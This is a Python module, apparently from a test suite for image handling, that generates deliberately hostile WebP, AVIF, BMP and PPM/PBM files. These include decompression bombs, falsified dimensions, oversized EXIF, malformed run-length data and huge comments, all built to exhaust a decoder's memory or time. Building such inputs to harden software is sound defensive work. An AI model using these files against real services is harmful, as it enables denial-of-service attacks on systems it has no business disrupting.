"""WebP, AVIF, BMP and PPM files that are made to take memory or time."""

from __future__ import annotations

import io
import struct

from hostile.attack_list import MIB, SIDE, attack
from PIL import Image

# WebP, AVIF


def webp_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


@attack
def webp_lossless() -> bytes:
    file = io.BytesIO()
    Image.new("RGBA", (SIDE, SIDE), (9, 9, 9, 9)).save(file, "WEBP", lossless=True, quality=0, method=0)
    return file.getvalue()


@attack
def webp_of_268_megapixels_with_a_tiny_frame() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "WEBP")
    frame = webp_chunk(b"ANMF", bytes(6) + b"\7\0\0\7\0\0" + b"\1\0\0\0" + file.getvalue()[12:])
    side = struct.pack("<I", 16_382)[:3]
    body = b"WEBP" + webp_chunk(b"VP8X", b"\2\0\0\0" + side * 2) + webp_chunk(b"ANIM", bytes(6)) + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


@attack
def webp_with_40_megabytes_of_exif() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "WEBP")
    header = webp_chunk(b"VP8X", b"\x08\0\0\0\7\0\0\7\0\0")
    body = b"WEBP" + header + file.getvalue()[12:] + webp_chunk(b"EXIF", b"Exif\0\0II*\0" + bytes(40 * MIB))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def avif(side: int) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (side, side)).save(file, "AVIF", speed=10, quality=20)
    return file.getvalue()


def stating(data: bytes, true: int, side: int) -> bytes:
    """An AVIF whose container states another size than its frame has."""
    return data.replace(
        b"ispe" + bytes(4) + struct.pack(">II", true, true), b"ispe" + bytes(4) + struct.pack(">II", side, side)
    )


@attack
def avif_of_large_size() -> bytes:
    return stating(avif(64), 64, SIDE)


@attack
def avif_whose_frame_is_larger_than_it_states() -> bytes:
    return stating(avif(5800), 5800, 8)


# BMP, PPM


def bmp(width: int, height: int, bits: int, compression: int, body: bytes) -> bytes:
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, len(body), 0, 0, 0, 0)
    palette = bytes(range(256)) * 4 if bits == 8 else b""
    offset = 14 + len(header) + len(palette)
    return b"BM" + struct.pack("<IHHI", offset + len(body), 0, 0, offset) + header + palette + body


@attack
def bmp_of_900_megapixels() -> bytes:
    return bmp(30_000, 30_000, 24, 0, b"")


@attack
def bmp_of_runs_of_one_pixel() -> bytes:
    return bmp(SIDE, SIDE, 8, 1, b"\1\5" * SIDE * SIDE)


@attack
def bmp_of_runs_that_lead_nowhere() -> bytes:
    return bmp(SIDE, SIDE, 8, 1, b"\0\0" * 20_000_000)


@attack
def ppm_with_a_comment_of_50_megabytes() -> bytes:
    return b"P6\n#" + b"x" * 50_000_000 + b"\n8 8\n255\n" + bytes(192)


@attack
def ppm_with_50_megabytes_of_spaces() -> bytes:
    return b"P6\n" + b" " * 50_000_000 + b"8 8\n255\n" + bytes(192)


@attack
def ppm_whose_samples_end_at_254() -> bytes:
    return b"P6\n6000 6000\n254\n" + bytes(6000 * 6000 * 3)


@attack
def ppm_of_16_bits() -> bytes:
    return b"P5\n8000 8000\n4095\n" + bytes(8000 * 8000 * 2)


@attack
def ppm_as_text() -> bytes:
    return b"P3\n1500 1500\n255\n" + b"9 " * 1500 * 1500 * 3


@attack
def ppm_as_text_with_comments() -> bytes:
    return b"P2\n8 8\n255\n" + b"#\n" * 20_000_000 + b"9 " * 64


@attack
def pbm_as_text() -> bytes:
    return b"P1\n8000 8000\n" + b"1" * 64_000_000
